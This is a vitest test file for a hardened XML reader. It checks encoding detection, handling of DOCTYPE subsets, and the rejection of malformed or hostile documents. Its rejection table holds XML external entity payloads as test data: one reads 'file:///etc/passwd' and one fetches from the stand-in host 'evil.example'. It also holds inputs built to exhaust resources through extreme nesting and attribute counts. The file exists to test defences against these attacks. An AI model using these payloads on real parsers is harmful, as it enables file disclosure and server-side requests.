import { describe, expect, it } from 'vitest'
import { findTree, readXml, textAt, XML_MAX_BYTES } from './readXml'
import { XmlError } from './decodeXml'

const utf8 = (text: string) => new TextEncoder().encode(text)
const latin1 = (text: string) => Buffer.from(text, 'latin1')
const utf16 = (text: string) => Buffer.from(text, 'utf16le')
const swapped = (text: string) => utf16(text).swap16()
const withMark = (mark: number[], bytes: Uint8Array) => Buffer.concat([Buffer.from(mark), bytes])

const MISFIT = 'The document is not in the encoding that it declares'
const DECLARES = 'The document declares a type of its own'
const ILL_FORMED = 'The document is not well formed'

function rejectionOf(bytes: Uint8Array): string {
  try {
    readXml(bytes)
  } catch (error) {
    if (error instanceof XmlError) return error.message
    throw error
  }
  return 'read'
}

describe('the tree of a document', () => {
  it('resolves elements, attributes and text once', () => {
    const root = readXml(
      utf8(
        '<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.045/cXML.dtd">' +
          '<a x="1 &lt; 2" __proto__="y"><b>&amp;lt; &#x1F345;&#252;<!-- no --> <![CDATA[&amp;<c>]]></b> <b/></a>',
      ),
    )
    expect([root.name, ...root.attributes]).toEqual(['a', ['x', '1 < 2'], ['__proto__', 'y']])
    expect(root.children.map(({ name }) => name)).toEqual(['b', 'b'])
    expect(textAt(root, 'b')).toBe('&lt; 🍅ü &amp;<c>')
    expect(findTree(root, 'b', 'c')).toBeUndefined()
    expect(textAt(root, 'd')).toBe('')
  })
})

describe('an empty internal subset', () => {
  it.each([
    ['as .NET writes it', '<!DOCTYPE a SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.045/cXML.dtd"[]>'],
    ['after a blank', '<!DOCTYPE a SYSTEM "a.dtd" []>'],
    ['after a public identifier', `<!DOCTYPE a PUBLIC '-//x' "a.dtd" [] >`],
    ['after the name', '<!DOCTYPE a[]>'],
    ['with blanks and line ends in it', '<!DOCTYPE a SYSTEM "a.dtd"[ \t\r\n ]>'],
    ['of many blanks', `<!DOCTYPE a${' '.repeat(300_000)}[${' '.repeat(300_000)}]>`],
  ])('declares nothing and is accepted %s', (_, doctype) => {
    expect(readXml(utf8(`${doctype}<a>b</a>`)).text).toBe('b')
  })

  it.each([
    ['a comment', '<!DOCTYPE a SYSTEM "a.dtd"[<!-- nothing -->]>', DECLARES],
    ['a processing instruction', '<!DOCTYPE a SYSTEM "a.dtd"[<?x y?>]>', DECLARES],
    ['a parameter entity', '<!DOCTYPE a SYSTEM "a.dtd"[%x;]>', DECLARES],
    ['an entity', '<!DOCTYPE a SYSTEM "a.dtd"[<!ENTITY x "y">]>', DECLARES],
    ['text', '<!DOCTYPE a SYSTEM "a.dtd"[x]>', DECLARES],
    ['a no-break space', '<!DOCTYPE a SYSTEM "a.dtd"[\u00A0]>', DECLARES],
    ['a bracket', '<!DOCTYPE a SYSTEM "a.dtd"[[]]>', DECLARES],
    ['a second subset', '<!DOCTYPE a SYSTEM "a.dtd"[][]>', DECLARES],
    ['an identifier behind it', '<!DOCTYPE a[] SYSTEM "a.dtd">', DECLARES],
    ['no end', '<!DOCTYPE a SYSTEM "a.dtd"[>', ILL_FORMED],
  ])('is rejected with %s', (_, doctype, reason) => {
    expect(rejectionOf(utf8(`${doctype}<a/>`))).toBe(reason)
  })
})

describe('the encoding of a document', () => {
  const declaring = (encoding: string) => `<?xml version="1.0" encoding="${encoding}"?><a>Öl 5€</a>`
  it.each([
    ['UTF-8 without a declaration', utf8('<a>Öl 5€</a>')],
    ['UTF-8', utf8(declaring('UTF-8'))],
    ['UTF-8 with a byte order mark', withMark([0xef, 0xbb, 0xbf], utf8(declaring('utf-8')))],
    ['UTF-16 with a byte order mark', withMark([0xff, 0xfe], utf16(declaring('UTF-16')))],
    ['UTF-16 of the other byte order', withMark([0xfe, 0xff], swapped(declaring('UTF-16')))],
    ['declared UTF-16', utf16(declaring('UTF-16LE'))],
    ['declared UTF-16 of the other byte order', swapped(declaring('utf-16be'))],
    ['Windows-1252', latin1(declaring('windows-1252').replace('€', '\x80'))],
    ['Latin 1', latin1(declaring('ISO-8859-1').replace('€', '\x80'))],
    ['Windows-1252 by another name', latin1(declaring('CP1252').replace('€', '\x80'))],
  ])('may be %s', (_, bytes) => {
    expect(readXml(bytes).text).toBe('Öl 5€')
  })

  it.each([
    ['Latin 1 without a declaration', latin1('<a>Öl</a>'), MISFIT],
    ['declared UTF-8, actually Latin 1', latin1(declaring('UTF-8').replace('€', '')), MISFIT],
    ['declared UTF-16, actually UTF-8', utf8(declaring('UTF-16')), MISFIT],
    ['declared UTF-8, actually UTF-16', withMark([0xff, 0xfe], utf16(declaring('UTF-8'))), MISFIT],
    [
      'declared Latin 1, with a UTF-8 byte order mark',
      withMark([0xef, 0xbb, 0xbf], utf8(declaring('latin1'))),
      MISFIT,
    ],
    ['declared with the other byte order', withMark([0xff, 0xfe], utf16(declaring('UTF-16BE'))), MISFIT],
    ['half a character', withMark([0xff, 0xfe], utf16('<a/>').subarray(0, 7)), MISFIT],
    ['declared ASCII, actually not', utf8(declaring('us-ascii')), MISFIT],
    ['named as a property', utf8(declaring('constructor')), 'The encoding of the document is not supported'],
    ['unknown', utf8(declaring('ebcdic-cp-be')), 'The encoding of the document is not supported'],
    ['UTF-32', withMark([0xff, 0xfe, 0, 0], Buffer.from('<\0\0\0a\0\0\0/\0\0\0>\0\0\0')), ILL_FORMED],
  ])('is rejected: %s', (_, bytes, reason) => {
    expect(rejectionOf(bytes)).toBe(reason)
  })
})

describe('a document is rejected', () => {
  const nested = (depth: number) => `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`
  const attributes = (count: number) =>
    `<a ${Array.from({ length: count }, (_, index) => `b${index}=""`).join(' ')}/>`
  it.each([
    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', DECLARES],
    ['internal entities', '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', DECLARES],
    ['parameter entities', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]><a/>', DECLARES],
    ['internal declarations', '<!DOCTYPE a SYSTEM "a.dtd" [<!ATTLIST a b CDATA "c">]><a/>', DECLARES],
    ['an unknown entity', '<a>&nbsp;</a>', ILL_FORMED],
    ['an illegal character', '<a>&#0;</a>', ILL_FORMED],
    ['half a character', '<a>&#xD83C;</a>', ILL_FORMED],
    ['nothing', '', ILL_FORMED],
    ['blanks', '  \n', ILL_FORMED],
    ['no element', '<?xml version="1.0"?><!-- nothing -->', ILL_FORMED],
    ['text', 'hello', ILL_FORMED],
    ['JSON', '{"cXML": {}}', ILL_FORMED],
    ['two elements', '<a/><b/>', ILL_FORMED],
    ['trailing text', '<a/>b', ILL_FORMED],
    ['an unclosed element', '<a><b></a>', ILL_FORMED],
    ['a surplus end tag', '<a/></a>', ILL_FORMED],
    ['a duplicate attribute', '<a b="1" b="2"/>', ILL_FORMED],
    ['an attribute without quotes', '<a b=1/>', ILL_FORMED],
    ['a truncated tag', '<a', ILL_FORMED],
    ['an unclosed comment', '<a><!-- </a>', ILL_FORMED],
    ['too many attributes', attributes(51), 'An element has too many attributes'],
    ['100,000 attributes', attributes(100_000), 'An element has too many attributes'],
    ['excessive depth', nested(41), 'The document is nested too deeply'],
    ['100,000 levels', '<a>'.repeat(100_000), 'The document is nested too deeply'],
    ['too many elements', `<a>${'<b/>'.repeat(50_000)}</a>`, 'The document has too many elements'],
    ['excessive size', `<a>${' '.repeat(XML_MAX_BYTES)}</a>`, 'The document is too large'],
  ])('for %s', (_, text, reason) => {
    expect(rejectionOf(utf8(text))).toBe(reason)
  })

  it('only beyond each limit', () => {
    expect(rejectionOf(utf8(attributes(50)))).toBe('read')
    expect(rejectionOf(utf8(nested(40)))).toBe('read')
    expect(rejectionOf(utf8(`<a>${'<b/>'.repeat(49_999)}</a>`))).toBe('read')
    expect(rejectionOf(utf8(`<a>${' '.repeat(XML_MAX_BYTES - 7)}</a>`))).toBe('read')
  })
})
